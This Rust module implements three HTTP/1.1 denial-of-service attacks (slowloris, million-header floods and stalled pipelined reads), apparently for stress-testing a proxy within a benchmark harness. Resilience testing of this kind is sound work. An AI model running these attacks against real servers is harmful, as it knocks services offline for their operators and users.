//! Attacks by HTTP/1.1.

use super::{Done, Pace};
use std::io::{ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::Duration;

/// Heads that never end.
pub(super) fn slowloris(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
    const CONNECTIONS: usize = 2000;
    let (mut held, mut bytes, mut turn) = (Vec::with_capacity(CONNECTIONS), 0, 0);
    let start: &[u8] = b"GET / HTTP/1.1\r\nhost: bench.example\r\n";
    let line = b"x-header: slow\r\n";
    while !pace.over() {
        // Those that the proxy closed are opened again, a few at a time.
        for _ in 0..200 {
            if held.len() < CONNECTIONS
                && let Ok(mut s) = TcpStream::connect(to)
            {
                s.set_nonblocking(true)?;
                bytes += s.write(start).unwrap_or(0) as u64;
                held.push(s);
            }
        }
        held.retain_mut(|s| {
            bytes += 1;
            s.write_all(&line[turn % line.len()..][..1]).is_ok() && !over(s)
        });
        turn += 1;
        let step = if held.len() < CONNECTIONS { 50 } else { 1000 };
        std::thread::sleep(Duration::from_millis(step));
    }
    Ok(Done { held: held.len(), times: turn as u64, bytes })
}

/// Whether the other side has closed.
fn over(s: &mut TcpStream) -> bool {
    match s.read(&mut [0; 512]) {
        Ok(n) => n == 0,
        Err(e) => e.kind() != ErrorKind::WouldBlock,
    }
}

/// Requests with a million headers, as far as the proxy lets them come.
pub(super) fn million_headers(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
    let (block, mut requests, mut bytes) = (b"a: b\r\n".repeat(10_000), 0, 0);
    while pace.wait(requests, 50.0) {
        let mut s = TcpStream::connect(to)?;
        s.set_write_timeout(Some(Duration::from_secs(1)))?;
        let mut whole = s.write_all(b"GET / HTTP/1.1\r\nhost: bench.example\r\n").is_ok();
        for _ in 0..100 {
            whole = whole && !pace.over() && s.write_all(&block).is_ok();
            bytes += if whole { block.len() as u64 } else { 0 };
        }
        requests += 1;
    }
    Ok(Done { held: 0, times: requests, bytes })
}

/// Answers that nobody reads.
pub(super) fn stalled(to: SocketAddr, pace: &Pace) -> anyhow::Result<Done> {
    let request = b"GET /big HTTP/1.1\r\nhost: bench.example\r\n\r\n".repeat(20);
    let held = hold(500, to, pace, |s| s.write_all(&request))?;
    Ok(Done { held, times: 20 * held as u64, bytes: (request.len() * held) as u64 })
}

/// Opens connections with small receive buffers, sends on each of them once, and holds them all, reading nothing.
pub(super) fn hold(
    count: usize,
    to: SocketAddr,
    pace: &Pace,
    ask: impl Fn(&mut TcpStream) -> std::io::Result<()>,
) -> anyhow::Result<usize> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    let mut held = vec![];
    for _ in 0..count {
        if pace.over() {
            break;
        }
        let stream = runtime.block_on(async {
            let socket = tokio::net::TcpSocket::new_v4()?;
            socket.set_recv_buffer_size(4096)?;
            socket.connect(to).await?.into_std()
        });
        let Ok(mut s) = stream else { continue };
        if ask(&mut s).is_ok() {
            held.push(s);
        }
    }
    while !pace.over() {
        std::thread::sleep(Duration::from_millis(100));
    }
    Ok(held.len())
}
